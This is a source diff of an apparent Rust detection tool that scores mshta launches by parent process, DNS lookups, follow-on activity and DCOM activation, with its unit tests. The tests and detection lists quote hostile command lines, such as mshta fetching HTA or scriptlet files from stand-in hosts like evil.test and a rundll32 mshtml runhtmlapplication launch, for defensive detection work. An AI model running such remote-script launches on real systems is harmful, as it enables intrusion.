-    let unc = b.windows(3).any(|w| w[0] == b'\\' && w[1] == b'\\' && w[2] != b'?' && w[2] != b'.' && w[2] != b'\\');
-    unc.then_some("UNC path")
 }
 
-/// `script:` as a moniker (`GetObject("script:https://…")`), not the tail
-/// of `vbscript:` or `javascript:`.
-fn has_script_moniker(cmd: &str) -> bool {
-    cmd.match_indices("script:").any(|(i, _)| !cmd[..i].chars().next_back().is_some_and(|c| c.is_ascii_alphabetic()))
+/// The DNS lookups inside the window, sorted for the reasons.
+struct Lookups {
+    /// Under an allowlisted domain.
+    allowed: Named,
+    /// The others.
+    queries: Named,
+    /// The others that name the command line's URL host.
+    url_host: Named,
 }
 
-fn user_writable_dir(cmd: &str) -> Option<&'static str> {
-    [
-        ("\\start menu\\programs\\startup\\", "Startup"),
-        ("\\downloads\\", "Downloads"),
-        ("\\appdata\\local\\temp\\", "Temp"),
-        ("\\windows\\temp\\", "Windows\\Temp"),
-        ("%temp%", "Temp"),
-        ("\\users\\public\\", "Public"),
-        ("\\programdata\\", "ProgramData"),
-        ("\\appdata\\", "AppData"),
-        ("\\perflogs\\", "PerfLogs"),
-    ]
-    .into_iter()
-    .find(|(needle, _)| cmd.contains(needle))
-    .map(|(_, name)| name)
+impl Lookups {
+    fn of(v: &View, t: &Tuning, url_host: Option<&str>) -> Lookups {
+        let mut l = Lookups { allowed: Named::new(), queries: Named::new(), url_host: Named::new() };
+        for a in v.acts.iter().filter(|a| !a.late) {
+            let Activity::Dns { query } = a.what else { continue };
+            let (q, first) = (lower(query).into_owned(), a.events[0]);
+            if t.domain_allowed(&q) {
+                l.allowed.push((q, first));
+                continue;
+            }
+            if url_host.is_some_and(|h| h == q.trim_end_matches('.')) {
+                l.url_host.push((q.clone(), first));
+            }
+            l.queries.push((q, first));
+        }
+        l
+    }
 }
 
-/// The lineage reason for a parent, or `None` when ordinary.
-fn parent_grade(name: &str, parent_cmd: &str, embedding: bool) -> Option<(&'static str, &'static str)> {
-    const OFFICE: &[&str] = &[
-        "winword.exe",
-        "excel.exe",
-        "powerpnt.exe",
-        "outlook.exe",
-        "onenote.exe",
-        "eqnedt32.exe",
-        "mspub.exe",
-        "visio.exe",
-        "msaccess.exe",
-        "wordpad.exe",
-    ];
-    const SHELLS: &[&str] = &[
-        "cmd.exe",
-        "powershell.exe",
-        "pwsh.exe",
-        "wscript.exe",
-        "cscript.exe",
-        "regsvr32.exe",
-        "rundll32.exe",
-        "hh.exe",
-    ];
-    const BROWSERS: &[&str] = &["chrome.exe", "msedge.exe", "firefox.exe", "iexplore.exe", "brave.exe", "opera.exe"];
-    if OFFICE.contains(&name) {
+/// Any follow-on inside the window: a dropped file mshta ran, a
+/// descendant, a file, a connection or a lookup (a module load alone is
+/// not activity).
+fn has_follow_on(v: &View) -> bool {
+    v.dropped_file.is_some()
+        || v.members.iter().any(|m| !m.late)
+        || v.acts.iter().any(|a| !a.late && !matches!(a.what, Activity::ImageLoad { .. }))
+}
+
+/// An inbound connection between two dynamic ports: how a DCOM caller
+/// reaches the server it activated.
+fn is_dcom_activation(n: &Network) -> bool {
+    n.direction == Direction::Inbound
+        && n.src_port.is_some_and(k::is_dynamic_port)
+        && n.dst_port.is_some_and(k::is_dynamic_port)
+}
+
+/// The lineage reason for a parent, or `None` when ordinary. Most telling
+/// first: an Office parent that is also a script host is Office.
+fn parent_family(image: &str, command_line: &str, embedding: bool) -> Option<(&'static str, &'static str)> {
+    if k::is_office(image) {
         Some(("parent_office", "an Office application"))
-    } else if name == "wmiprvse.exe" || name == "scrcons.exe" {
+    } else if k::is_wmi_host(image) {
         Some(("parent_wmi", "WMI"))
-    } else if name == "svchost.exe" && (parent_cmd.contains("dcomlaunch") || embedding) {
+    } else if k::is_dcom_launcher(image, command_line, embedding) {
         Some(("parent_dcom", "DCOM (svchost DcomLaunch)"))
-    } else if name == "rundll32.exe"
-        && (parent_cmd.contains("runhtmlapplication") || parent_cmd.contains("fileprotocolhandler"))
-    {
+    } else if k::is_rundll32_html_handler(image, command_line) {
         Some(("parent_rundll32_handler", "rundll32 proxying HTML execution"))
-    } else if SHELLS.contains(&name) {
+    } else if k::is_launcher_script_host(image) {
         Some(("parent_script_host", "a shell or script host"))
-    } else if BROWSERS.contains(&name) {
+    } else if k::is_browser(image) {
         Some(("parent_browser", "a web browser"))
-    } else if name == "explorer.exe" {
+    } else if k::is_explorer(image) {
         Some(("parent_explorer", "Explorer (a double-click)"))
     } else {
         None
     }
 }
 
-/// Files Windows components write routinely (PowerShell writes an
-/// execution-policy probe script at every start).
-fn routine_file(l: &str) -> bool {
-    basename(l).starts_with("__psscriptpolicytest_")
-}
-
-fn suspicious_file(l: &str) -> bool {
-    const EXTENSIONS: &[&str] = &[
-        ".exe", ".dll", ".com", ".scr", ".ocx", ".jar", ".ps1", ".psm1", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse",
-        ".wsf", ".wsh", ".hta", ".sct", ".lnk", ".zip", ".rar", ".7z", ".iso", ".msi", ".chm",
-    ];
-    EXTENSIONS.iter().any(|e| l.ends_with(e))
-}
-
-/// Private, loopback, link-local and other non-routable addresses.
-pub(crate) fn is_internal_ip(ip: &str) -> bool {
-    let ip = ip.trim().trim_start_matches("::ffff:");
-    if let Some(v4) = parse_v4(ip) {
-        let [a, b, ..] = v4;
-        return a == 10
-            || a == 127
-            || a == 0
-            || (a == 172 && (16..=31).contains(&b))
-            || (a == 192 && b == 168)
-            || (a == 169 && b == 254)
-            || (a == 100 && (64..=127).contains(&b))
-            || a >= 224;
-    }
-    let l = lower(ip);
-    l == "::1"
-        || l == "0:0:0:0:0:0:0:1"
-        || l == "::"
-        || l.starts_with("fe80")
-        || l.starts_with("fc")
-        || l.starts_with("fd")
-        || l.starts_with("ff")
-}
-
-fn parse_v4(s: &str) -> Option<[u8; 4]> {
-    let mut out = [0u8; 4];
-    let mut parts = s.split('.');
-    for slot in &mut out {
-        *slot = parts.next()?.parse().ok()?;
-    }
-    parts.next().is_none().then_some(out)
-}
-
+/// Distinct names, sorted, the first [`NAMES_SHOWN`] and a count of the rest.
 fn unique<'a>(names: impl Iterator<Item = &'a str>) -> String {
     let mut v: Vec<&str> = names.collect();
     v.sort_unstable();
     v.dedup();
-    let shown = v.len().min(5);
+    let shown = v.len().min(NAMES_SHOWN);
     let mut s = v[..shown].join(", ");
     if v.len() > shown {
         s.push_str(&format!(" and {} more", v.len() - shown));
@@ -590,59 +532,41 @@ mod tests {
     use super::*;
 
     #[test]
-    fn remote_targets() {
-        assert_eq!(remote_target("mshta https://evil.test/a.hta"), Some("http"));
-        assert_eq!(remote_target("mshta \"\\\\10.0.0.5\\share\\a.hta\""), Some("UNC path"));
-        assert_eq!(remote_target("mshta \\\\evil@ssl\\davwwwroot\\a.hta"), Some("WebDAV"));
-        assert_eq!(remote_target("\\\\?\\c:\\windows\\system32\\mshta.exe c:\\a.hta"), None);
-        assert_eq!(remote_target("mshta c:\\apps\\a.hta"), None);
-    }
-
-    #[test]
-    fn script_moniker_is_not_a_protocol_handler() {
-        assert!(has_script_moniker("javascript:a=getobject('script:https://x/a.sct')"));
-        assert!(!has_script_moniker("mshta vbscript:execute(1)"));
-        assert!(!has_script_moniker("mshta javascript:alert(1)"));
-    }
-
-    #[test]
-    fn internal_addresses() {
-        for ip in [
-            "10.1.2.3",
-            "192.168.2.5",
-            "172.20.0.1",
-            "127.0.0.1",
-            "::1",
-            "fe80::1",
-            "::ffff:10.0.0.1",
-            "0:0:0:0:0:0:0:1",
-        ] {
-            assert!(is_internal_ip(ip), "{ip}");
-        }
-        for ip in ["151.101.248.133", "8.8.8.8", "172.32.0.1", "2606:4700::1111"] {
-            assert!(!is_internal_ip(ip), "{ip}");
-        }
-    }
-
-    #[test]
     fn parents_are_graded() {
-        assert_eq!(parent_grade("winword.exe", "", false).map(|g| g.0), Some("parent_office"));
-        let dcom = "c:\\windows\\system32\\svchost.exe -k dcomlaunch -p";
-        assert_eq!(parent_grade("svchost.exe", dcom, false).map(|g| g.0), Some("parent_dcom"));
-        assert_eq!(parent_grade("svchost.exe", "svchost.exe -k netsvcs", false), None);
-        assert_eq!(parent_grade("explorer.exe", "", false).map(|g| g.0), Some("parent_explorer"));
+        let family = |image: &str, cmd: &str, embedding: bool| parent_family(image, cmd, embedding).map(|g| g.0);
+        assert_eq!(family("C:\\Program Files\\Office\\WINWORD.EXE", "", false), Some("parent_office"));
+        let dcom = "c:\\windows\\system32\\svchost.exe -k DcomLaunch -p";
+        assert_eq!(family("svchost.exe", dcom, false), Some("parent_dcom"));
+        assert_eq!(family("svchost.exe", "svchost.exe -k netsvcs", false), None);
+        assert_eq!(family("svchost.exe", "", true), Some("parent_dcom"));
+        assert_eq!(family("explorer.exe", "", false), Some("parent_explorer"));
         let handler = "rundll32.exe javascript:\"\\..\\mshtml,runhtmlapplication\"";
-        assert_eq!(parent_grade("rundll32.exe", handler, false).map(|g| g.0), Some("parent_rundll32_handler"));
+        assert_eq!(family("rundll32.exe", handler, false), Some("parent_rundll32_handler"));
+        assert_eq!(family("rundll32.exe", "rundll32 a.dll,Start", false), Some("parent_script_host"));
+        assert_eq!(family("WmiPrvSE.exe", "", false), Some("parent_wmi"));
+        assert_eq!(family("firefox.exe", "", false), Some("parent_browser"));
+        assert_eq!(family("services.exe", "", false), None);
     }
 
     #[test]
-    fn url_hosts() {
-        assert_eq!(url_host("mshta https://cdn.evil.example/a.hta"), Some("cdn.evil.example"));
-        assert_eq!(url_host("mshta http://10.0.0.5:8080/x"), Some("10.0.0.5"));
-        assert_eq!(
-            url_host("getobject('script:https://raw.githubusercontent.com/x')"),
-            Some("raw.githubusercontent.com")
-        );
-        assert_eq!(url_host("mshta c:\\a.hta"), None);
+    fn dcom_activation_needs_two_dynamic_ports_inbound() {
+        let n = |direction, src_port, dst_port| Network {
+            src_ip: Some("10.0.0.9".into()),
+            src_port: Some(src_port),
+            dst_ip: Some("10.0.0.5".into()),
+            dst_port: Some(dst_port),
+            dst_host: None,
+            direction,
+        };
+        assert!(is_dcom_activation(&n(Direction::Inbound, 50123, 49702)));
+        assert!(!is_dcom_activation(&n(Direction::Inbound, 50123, 135)));
+        assert!(!is_dcom_activation(&n(Direction::Outbound, 50123, 49702)));
+    }
+
+    #[test]
+    fn unique_names_are_sorted_and_cut() {
+        let names = ["b", "a", "b", "c", "d", "e", "f", "g"];
+        assert_eq!(unique(names.into_iter()), "a, b, c, d, e and 2 more");
+        assert_eq!(unique(["x"].into_iter()), "x");
     }
 }
